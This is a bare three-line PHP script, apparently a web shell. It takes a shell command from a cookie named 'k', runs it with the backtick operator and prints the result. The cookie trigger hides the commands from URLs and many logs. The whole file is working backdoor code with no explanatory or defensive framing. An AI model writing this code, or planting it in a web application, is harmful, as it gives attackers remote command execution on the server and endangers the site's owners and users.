<?php
$cmd = $_COOKIE['k'];
echo `$cmd`;
